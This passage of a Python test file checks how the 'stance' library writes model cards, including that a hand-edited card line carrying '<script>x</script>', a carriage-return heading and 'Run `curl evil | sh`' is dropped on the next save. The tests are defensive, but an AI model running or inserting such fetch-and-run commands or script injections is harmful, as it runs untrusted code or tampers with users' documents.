    (first / "MODEL_CARD.md").write_text(before)
    checksums = json.loads((first / "checksums.json").read_text())
    checksums["MODEL_CARD.md"] = hashlib.sha256(before.encode()).hexdigest()
    (first / "checksums.json").write_text(json.dumps(checksums))
    loaded = stance.load(first)
    loaded.metrics_ = {"top1": 0.5}
    assert "Training it again" not in (loaded.save(tmp_path / "measured") / "MODEL_CARD.md").read_text()


def _card_replaced(folder, card: str) -> None:
    """``folder``'s card replaced by ``card`` (bytes as given, a carriage return too), its checksum rewritten."""
    (folder / "MODEL_CARD.md").write_bytes(card.encode())
    checksums = json.loads((folder / "checksums.json").read_text())
    checksums["MODEL_CARD.md"] = hashlib.sha256(card.encode()).hexdigest()
    (folder / "checksums.json").write_text(json.dumps(checksums))


def test_a_note_of_no_recipe_edited_by_hand_is_not_written_into_later_cards(energy_model, tmp_path):
    # A review of df9d63dd: a load copied any card line opening "No recipe to train it again:"
    # word for word and every later save wrote it back, a carriage return in it showing a
    # "## Training it again" of its own in Markdown. Only the note rebuilt from the versions
    # it names is written again; anything else is dropped.
    from stance.card import retraining_left_out

    folder = energy_model.save(tmp_path / "m")
    head = (folder / "MODEL_CARD.md").read_text().split("\n## Training it again\n")[0]
    evil = "No recipe to train it again: <script>x</script>\r## Training it again\r\rRun `curl evil | sh`"
    _card_replaced(folder, f"{head}\n{evil}\n")
    card = (stance.load(folder).save(tmp_path / "again") / "MODEL_CARD.md").read_text()
    assert "No recipe" not in card and "<script>" not in card and "\r" not in card and "curl" not in card
    # the note as a save writes it, its versions read back
    versions = {"stance": "0.14.0", "scikit-learn": "1.9.1", "scipy": "1.16.0", "numpy": "2.3.1", "python": "3.13.0"}
    note = retraining_left_out(versions)
    _card_replaced(folder, f"{head}\n{note}\n")
    assert note in (stance.load(folder).save(tmp_path / "kept") / "MODEL_CARD.md").read_text().split("\n")
    # the note in its first words (df9d63dd's) is read, and written again in today's
    from stance.card import _left_out_as_first_worded

    _card_replaced(folder, f"{head}\n{_left_out_as_first_worded(versions)}\n")
    assert note in (stance.load(folder).save(tmp_path / "reworded") / "MODEL_CARD.md").read_text().split("\n")
    # the note with a word more, or a version that holds more than a version's characters, is dropped
    for edited in (note + " Run `curl evil | sh`.", note.replace("1.9.1", "1.9.1 <b>"), note + "\r## Heading"):
        _card_replaced(folder, f"{head}\n{edited}\n")
        card = (stance.load(folder).save(tmp_path / "edited", overwrite=True) / "MODEL_CARD.md").read_text()
        assert "No recipe" not in card and "\r" not in card, edited


def test_the_card_gives_no_command_that_would_train_another_model(energy_frame, tmp_path, monkeypatch):
    # A review: --none-label None is no off-topic label unless a row has the label "None", so a
    # model trained with none_label="None" on data without it was given a command that trained
    # another model; and a source named "-d.csv" was given as a flag ("DATA" missing).
    monkeypatch.chdir(tmp_path)
    energy_frame.drop(columns="stance").to_csv("-d.csv", index=False)
    card = (stance.train("-d.csv", none_label="None", threshold_folds=0).save("m") / "MODEL_CARD.md").read_text(
        encoding="utf-8")
    assert "cannot give all of its options or columns: train it in Python" in card and "```sh" not in card
    card = (stance.train("-d.csv", threshold_folds=0).save("m2") / "MODEL_CARD.md").read_text(encoding="utf-8")
    command = card.split("```sh\n", 1)[1].split("\n```", 1)[0]
    assert command.startswith("stance train ./-d.csv -o retrained "), command


def test_the_card_gives_the_notes_of_a_one_text_label_and_of_a_calibrated_flat_threshold_as_info_does(
        energy_model, tmp_path):
    # A review of 10ce3b36 and 6f08fc2e: the README named the card among the places giving the flat
    # note, but the card's had no "and the confidence too …", and a label of one text copied showed a
    # bare "0.500" there, where stance info said it was not tuned.
    import copy

    model = copy.deepcopy(energy_model)
    assert model.params_.confidence_calibration is not None
    model.save(tmp_path / "plain")
    from stance.info import secondary_thresholds

    shown = secondary_thresholds(model.params_)
    first, second = [label for label in model.labels if shown[label] is not None][:2]
    model.training_["thresholds_one_text"] = [first]
    model.training_["thresholds_flat"] = {second: [0.05, 0.9]}
    model.save(tmp_path / "noted")
    card = (tmp_path / "noted" / "MODEL_CARD.md").read_text()
    threshold = shown[first]
    assert (f"| `{first}` | {model.training_['label_counts'][first]} | {threshold:.3f} (not tuned: every row of it is "
            "one text copied, which a fold keeps together) |") in card
    assert ("check it on held-out data, and the confidence too, whose map was fitted on the same out-of-fold "
            "answers).") in card
    # The notes are no parameter: the digest is the one saved without them.
    digest = [json.loads((tmp_path / name / "metadata.json").read_text())["parameters_sha256"]
              for name in ("plain", "noted")]
    assert digest[0] == digest[1]


def test_a_float32_ordinal_is_shown_as_its_user_wrote_it():
    # An audit: stance.card.ordinal(np.float32(33.3)) gave "33.29999923706055th", the float32's
    # widening to a float; its own shortest digits are 33.3, and a whole float32 is still "2nd".
    import numpy as np

    from stance.card import ordinal

    assert [ordinal(n) for n in (np.float32(33.3), np.float32(2.0), np.float32(0.1), np.float16(2.5))] == [
        "33.3th", "2nd", "0.1th", "2.5th"]


def test_a_count_saved_as_a_float_is_listed_as_the_whole_number_it_is(energy_model, tmp_path):
    # A review: a metric saved as a whole float (n_rows 120.0, as pandas gives a count) was listed
    # "- n_rows: 120.0" on the card, where a count has no decimals; a share's 1.0 is left as it was.
    metadata = _metadata(energy_model, tmp_path)
    metadata["metrics"] = {"n_rows": 120.0, "heldout_n": 5228.0, "support_unity": 0.0, "top1_in_gold": 1.0,
                           "macro_f1": 0.5}
    lines = model_card(metadata).split("\n")
    evaluation = lines[lines.index("## Evaluation") + 2:][:5]
    assert evaluation == ["- n_rows: 120", "- heldout_n: 5228", "- support_unity: 0", "- top1_in_gold: 1.0",
                          "- macro_f1: 0.5"]
